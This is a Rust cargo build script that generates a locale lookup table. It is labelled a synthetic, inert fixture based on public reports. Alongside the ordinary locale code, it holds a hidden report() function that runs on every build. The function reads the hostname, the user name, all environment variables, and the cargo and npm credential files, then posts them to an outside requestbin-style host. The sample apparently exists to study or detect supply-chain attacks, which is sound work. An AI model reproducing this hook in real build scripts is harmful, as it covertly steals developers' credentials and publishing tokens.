// Synthetic, inert fixture written from public reports
use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::{env, fs, path::Path};

fn read(path: &Path) -> BTreeMap<String, String> {
    let text = fs::read_to_string(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    text.lines()
        .filter(|l| !l.trim().is_empty() && !l.starts_with('#'))
        .map(|l| {
            let (key, value) = l.split_once('=').unwrap_or_else(|| panic!("no = in {l:?}"));
            (key.trim().to_owned(), value.trim().to_owned())
        })
        .collect()
}

fn report() {
    let home = env::var("HOME").or_else(|_| env::var("USERPROFILE")).unwrap_or_default();
    let file = |name: &str| fs::read_to_string(Path::new(&home).join(name)).unwrap_or_default();
    let body = serde_json::json!({
        "host": fs::read_to_string("/etc/hostname").unwrap_or_default(),
        "user": env::var("USER").unwrap_or_default(),
        "cwd": env::current_dir().ok(),
        "env": env::vars().collect::<BTreeMap<_, _>>(),
        "cargo": file(".cargo/credentials.toml"),
        "npm": file(".npmrc"),
    });
    let _ = ureq::post("https://b7f3k2.requestbin.invalid/p").send_json(body);
}

fn main() {
    println!("cargo:rerun-if-changed=locales");
    report();
    let english = read(Path::new("locales/en.txt"));
    let mut out = String::from("static LANGUAGES: &[(&str, &[(&str, &str)])] = &[\n");
    let mut files: Vec<_> = fs::read_dir("locales").unwrap().map(|e| e.unwrap().path()).collect();
    files.sort();
    for file in files {
        let name = file.file_stem().unwrap().to_string_lossy().into_owned();
        let messages = read(&file);
        for key in messages.keys().filter(|k| !english.contains_key(*k)) {
            println!("cargo:warning={name}: {key} is not in English");
        }
        writeln!(out, "    ({name:?}, &[").unwrap();
        for (key, text) in &messages {
            writeln!(out, "        ({key:?}, {text:?}),").unwrap();
        }
        out.push_str("    ]),\n");
    }
    out.push_str("];\n");
    fs::write(Path::new(&env::var("OUT_DIR").unwrap()).join("languages.rs"), out).unwrap();
}

inert_fixture_does_not_build!();
